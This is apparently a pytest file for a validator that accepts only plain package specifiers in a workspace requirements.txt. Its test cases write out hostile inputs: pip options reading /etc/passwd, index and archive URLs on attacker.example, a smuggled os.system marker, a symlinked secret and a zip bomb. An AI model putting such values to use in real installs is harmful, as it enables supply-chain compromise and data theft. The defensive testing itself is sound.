"""A workspace's requirements.txt: package specifiers only, errors by line number without the line."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from opd_trainer.errors import ConfigError
from opd_trainer.workers.requirements import MAX_BYTES, MAX_LINES, parse_requirements, requirements_of

FIELD = "functions.judge.fcmodel.workspace"


def test_specifiers_extras_versions_markers_and_comments() -> None:
    text = """
# pinned for the judge
numpy>=1.26,<3
Rich[jupyter] == 13.7 ; python_version >= "3.11"   # a trailing comment
requests
PyYAML~=6.0
"""
    assert parse_requirements(text, FIELD) == [
        "numpy<3,>=1.26",
        'Rich[jupyter]==13.7; python_version >= "3.11"',
        "requests",
        "PyYAML~=6.0",
    ]
    assert parse_requirements("", FIELD) == [] and parse_requirements("# only\n\n", FIELD) == []


SECRET = "root:x:0:0:root:/root:/bin/bash"


@pytest.mark.parametrize(
    ("line", "problem"),
    [
        ("--requirement=/etc/passwd", "is a pip option"),
        ("-r /etc/passwd", "is a pip option"),
        ("--index-url https://attacker.example/simple", "is a pip option"),
        ("--extra-index-url=https://attacker.example", "is a pip option"),
        ("--report=/srv/opd-data/opd.db", "is a pip option"),
        ("-e ./local_pkg", "is a pip option"),
        ("-c constraints.txt", "is a pip option"),
        ("./local_pkg", "is not a package specifier"),
        ("/srv/opd-data/uploaded-models", "is not a package specifier"),
        ("https://attacker.example/pkg.tar.gz", "is not a package specifier"),
        ("git+https://attacker.example/repo.git", "is not a package specifier"),
        ("numpy; os.system('id')", "is not a package specifier"),  # not a standard marker
        ("numpy \\", "continues on the next line"),
        (SECRET, "is not a package specifier"),
    ],
)
def test_options_paths_urls_and_garbage_are_refused_by_line_number_only(line: str, problem: str) -> None:
    with pytest.raises(ConfigError) as raised:
        parse_requirements(f"numpy\n\n{line}\nrequests\n", FIELD)
    assert raised.value.field == FIELD
    assert raised.value.message.startswith(f"requirements.txt line 3 {problem}")
    for part in ("/etc", "passwd", "attacker", "opd-data", "root", "local_pkg", "constraints", "os.system"):
        assert part not in raised.value.message


@pytest.mark.parametrize(
    "line",
    [
        "evil @ https://attacker.example/evil-1.0.tar.gz",
        "evil @ file:///srv/opd-data/x",
        "evil.tar.gz",
        "e.whl",
    ],
)
def test_urls_paths_and_archive_names_are_refused_naming_only_the_package(line: str) -> None:
    """`name @ URL` parses as PEP 508, and pip installs `evil.tar.gz` from a file of that name: both
    are refused; the message names the package, nothing after it."""
    with pytest.raises(ConfigError) as raised:
        parse_requirements(line, FIELD)
    name = line.split(" ", 1)[0]
    assert raised.value.message.startswith(f"requirements.txt line 1 ({name}): a URL, path or archive file")
    assert "attacker" not in raised.value.message and "/srv" not in raised.value.message


def test_at_most_max_lines_and_bounded_line_length() -> None:
    assert len(parse_requirements("\n".join(f"pkg{i}" for i in range(MAX_LINES)), FIELD)) == MAX_LINES
    with pytest.raises(ConfigError, match=f"has {MAX_LINES + 1} lines; at most {MAX_LINES}"):
        parse_requirements("\n".join(["# c"] * (MAX_LINES + 1)), FIELD)
    with pytest.raises(ConfigError, match="line 2 is longer than"):
        parse_requirements("numpy\n" + "a" * 5000, FIELD)


def test_requirements_of_a_folder_and_a_zip(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("numpy>=1.26  # why\n")
    assert requirements_of(tmp_path, FIELD) == ["numpy>=1.26"]
    archive = tmp_path / "ws.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("requirements.txt", "--requirement=/etc/passwd\n")
    with pytest.raises(ConfigError, match="line 1 is a pip option") as raised:
        requirements_of(archive, FIELD)
    assert raised.value.field == FIELD
    empty = tmp_path / "empty"
    empty.mkdir()
    assert requirements_of(empty, FIELD) == []
    with zipfile.ZipFile(tmp_path / "none.zip", "w") as zf:
        zf.writestr("functions/__init__.py", "")
    assert requirements_of(tmp_path / "none.zip", FIELD) == []


def test_a_linked_large_or_binary_file_is_refused_unread(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text(SECRET + "\n")
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / "requirements.txt").symlink_to(secret)
    with pytest.raises(ConfigError, match="is a symbolic link") as raised:
        requirements_of(linked, FIELD)
    assert "root" not in raised.value.message

    large = tmp_path / "large"
    large.mkdir()
    (large / "requirements.txt").write_text("numpy\n" * (MAX_BYTES // 6 + 1))
    with pytest.raises(ConfigError, match="larger than 64 KiB"):
        requirements_of(large, FIELD)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("requirements.txt", b"n\n" * MAX_BYTES)  # compresses small, extracts large
    (tmp_path / "bomb.zip").write_bytes(buffer.getvalue())
    with pytest.raises(ConfigError, match="larger than 64 KiB"):
        requirements_of(tmp_path / "bomb.zip", FIELD)

    binary = tmp_path / "binary"
    binary.mkdir()
    (binary / "requirements.txt").write_bytes(b"numpy\n\xff\xfe\n")
    with pytest.raises(ConfigError, match="is not UTF-8 text"):
        requirements_of(binary, FIELD)
